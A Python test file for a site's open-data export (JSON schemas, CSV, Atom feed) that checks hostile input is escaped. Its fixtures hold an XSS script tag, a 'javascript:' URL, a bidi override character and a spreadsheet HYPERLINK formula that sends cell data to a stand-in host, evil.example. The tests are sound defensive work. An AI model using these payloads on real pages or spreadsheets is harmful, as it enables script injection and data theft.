"""The open-data files follow their schemas and column list; hostile text is escaped in HTML, Atom and CSV."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET

import aiohttp
import jsonschema

from bot.core import Core
from public import data
from public.text import contain_bidi
from storage import catalogue, publishing
from storage.models import Completion
from tests.loop_support import recommend, registered, rows
from tests.public.pages import loose_bidi, outline, visible
from tests.public.world import build_world, fetch, serving
from tests.support import ChatDriver, RecordingTransport

ATOM = "{http://www.w3.org/2005/Atom}"
SCRIPT = "<script>alert('x')</script>"
RLO = "\u202e"
LONG_WORD = "ب" * 1990  # with a second word, the longest recommendation taken
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"اضغط")'


async def test_json_files_match_their_schemas_and_the_csv_its_columns(
    core: Core, transport: RecordingTransport
) -> None:
    await build_world(core, transport)
    async with serving(core) as (base, _), aiohttp.ClientSession() as session:
        documents = {}
        for f in data.files():
            status, body, headers = await fetch(session, f"{base}/open-data/{f.name}")
            assert status == 200, f.name
            documents[f.name] = (body, headers["Content-Type"])
            schema_status, _, _ = await fetch(session, f"{base}/open-data/schemas/{f.schema}")
            assert schema_status == 200
    for name in ("commitments.json", "updates.json", "recommendations.json", "meetings.json"):
        body, content_type = documents[name]
        assert content_type == "application/json; charset=utf-8"
        schema = json.loads((data.SCHEMAS / name.replace(".json", ".schema.json")).read_text(encoding="utf-8"))
        jsonschema.Draft202012Validator.check_schema(schema)
        jsonschema.validate(json.loads(body), schema, format_checker=jsonschema.FormatChecker())
    body, content_type = documents["recommendations.csv"]
    assert content_type == "text/csv; charset=utf-8" and body.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert tuple(table[0]) == data.csv_columns() and all(len(row) == len(table[0]) for row in table)
    records = json.loads(documents["recommendations.json"][0])["recommendations"]
    assert [int(row[0]) for row in table[1:]] == [r["id"] for r in records]
    stored = await rows(
        core,
        "SELECT id FROM recommendations WHERE hidden = 0 AND (approved_at IS NOT NULL OR"
        " state IN ('accepted','partly_accepted','not_accepted','implemented')) ORDER BY id",
    )
    assert [r["id"] for r in records] == [r["id"] for r in stored]
    updates = json.loads(documents["updates.json"][0])["updates"]
    assert sorted(u["tag"] for u in updates) == ["milestone", "response"]
    assert [u["date"] for u in updates] == sorted(u["date"] for u in updates)  # oldest first, appended to
    ET.fromstring(documents["updates.atom"][0])  # noqa: S314 - well-formed XML


async def test_the_data_card_describes_every_field(core: Core, transport: RecordingTransport) -> None:
    await build_world(core, transport)
    async with serving(core) as (base, _), aiohttp.ClientSession() as session:
        _, card, _ = await fetch(session, f"{base}/open-data/")
    text = visible(card)
    for f in data.files():
        assert f.name in text
        for field in f.fields:
            assert field in text, (f.name, field)
    assert "CC BY 4.0" in text and "فورية" in text and "لم تُحدَّد جهة تواصل" in text
    assert "https://creativecommons.org/licenses/by/4.0/" in outline(card).links


async def _hostile_world(core: Core, transport: RecordingTransport) -> int:
    """A named author whose name, organisation, recommendation and the response are all hostile."""
    hostile_name = f"{SCRIPT}{RLO}ريم"
    chat = ChatDriver(core, transport, user="1001", name=hostile_name)
    await chat.register(name=hostile_name, organisation=FORMULA)
    receipt = await recommend(chat, 1, f"{SCRIPT} {RLO}نص معكوس {FORMULA}")
    long_one = await recommend(chat, 1, f"{LONG_WORD} طويلة")  # a recommendation needs words
    officer = await registered(core, transport, "9001", "منى")  # the configured coordinator answers
    await officer.command("inbox")
    await officer.press(f"#{receipt}")
    await officer.press("اعتُمدت")
    await officer.send(f"{FORMULA} {SCRIPT}{RLO} رد")
    await officer.press("حفظ وإرسال")
    async with core.db.transaction() as conn:
        [person] = [
            r for r in await conn.execute_fetchall("SELECT id FROM participants WHERE organisation = ?", (FORMULA,))
        ]
        await publishing.set_show_name(conn, person[0], True)
        # The chat strips bidi controls from what people type; older or imported data may still hold them.
        await conn.execute("UPDATE participants SET name = ? WHERE id = ?", (f"{SCRIPT}{RLO}ريم", person[0]))
        await conn.execute("UPDATE recommendations SET response = ? WHERE id = ?", (f"{RLO}{FORMULA} رد", receipt))
        await publishing.approve_waiting(conn, person[0], core.clock.now())
        assert long_one > receipt
        await catalogue.add_status_update(
            conn,
            1,
            Completion.LIMITED,
            10,
            core.clock.now(),
            note=f"{SCRIPT}{RLO}",
            evidence_url="javascript:alert(1)",
        )
    return receipt


async def test_hostile_text_is_escaped_in_html_atom_and_csv(core: Core, transport: RecordingTransport) -> None:
    receipt = await _hostile_world(core, transport)
    async with serving(core) as (base, _), aiohttp.ClientSession() as session:
        _, page, _ = await fetch(session, f"{base}/commitments/1/")
        _, feed, _ = await fetch(session, f"{base}/open-data/updates.atom")
        _, table, _ = await fetch(session, f"{base}/open-data/recommendations.csv")
        _, records, _ = await fetch(session, f"{base}/open-data/recommendations.json")
        _, css, _ = await fetch(session, f"{base}/assets/site.css")
    html = page.decode()
    assert "<script" not in html and "&lt;script&gt;" in html and "javascript:" not in "".join(outline(page).links)
    assert LONG_WORD in visible(page) and b"overflow-wrap: anywhere" in css  # long words wrap
    assert "javascript:alert(1)" in visible(page)  # shown as text, never a link
    # Every right-to-left override the author typed is closed inside its own isolated element.
    assert html.count(RLO) >= 3 and loose_bidi(page) == []
    entries = ET.fromstring(feed).findall(f"{ATOM}entry")  # noqa: S314 - the site's own feed
    contents = [e.findtext(f"{ATOM}content") or "" for e in entries]
    assert any(SCRIPT in c for c in contents) and b"<script>" not in feed and b"&lt;script&gt;" in feed
    assert all(c == contain_bidi(c) for c in contents)
    cells = [cell for row in csv.reader(io.StringIO(table.decode("utf-8-sig"))) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert f"'{FORMULA}" in cells[cells.index(f"'{FORMULA}")] and all(c == contain_bidi(c) for c in cells)
    record, _long = json.loads(records)["recommendations"]
    assert record["id"] == receipt and record["author_organisation"] == FORMULA  # data keep the exact text
    assert record["text"].startswith(SCRIPT)
    [stored] = await rows(core, "SELECT text FROM recommendations WHERE id = ?", receipt)
    assert stored["text"] == record["text"]
